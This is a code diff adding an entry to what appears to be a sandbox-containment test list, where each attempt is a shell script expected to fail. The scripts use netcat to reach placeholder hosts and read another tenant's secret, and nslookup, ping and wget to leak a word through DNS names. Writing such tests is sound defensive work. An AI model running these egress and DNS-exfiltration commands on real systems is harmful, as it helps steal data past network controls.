@@ -174,6 +174,16 @@ export const ATTEMPTS: readonly Attempt[] = [
     layer: NETWORK,
   },
   {
+    // That it may listen on its own loopback (what a dev server needs) says nothing about ways out: where it may not, this fails too (P123).
+    what: "turn leave to listen into a way out",
+    script:
+      "(echo mine | nc -l -p 8099 &) ; sleep 0.5; nc -w 2 127.0.0.1 8099 </dev/null | grep -q mine || exit 0; " +
+      "nc -w 2 HOST PORT </dev/null || nc -w 2 BRIDGE PORT </dev/null || nc -w 2 OTHER 7777 </dev/null | grep secret-of-the-other",
+    says: NO_WAY,
+    layer: NETWORK,
+  },
+  {
+    // P121, with the next.
     what: "carry words out in names",
     script: "nslookup secret-word.example.com || ping -c 1 -W 1 secret-word.example.com || wget -T 2 -qO- http://secret-word.example.com",
     says: /bad address|can't resolve|refused|no servers|unreachable|can't connect|timed out/i,
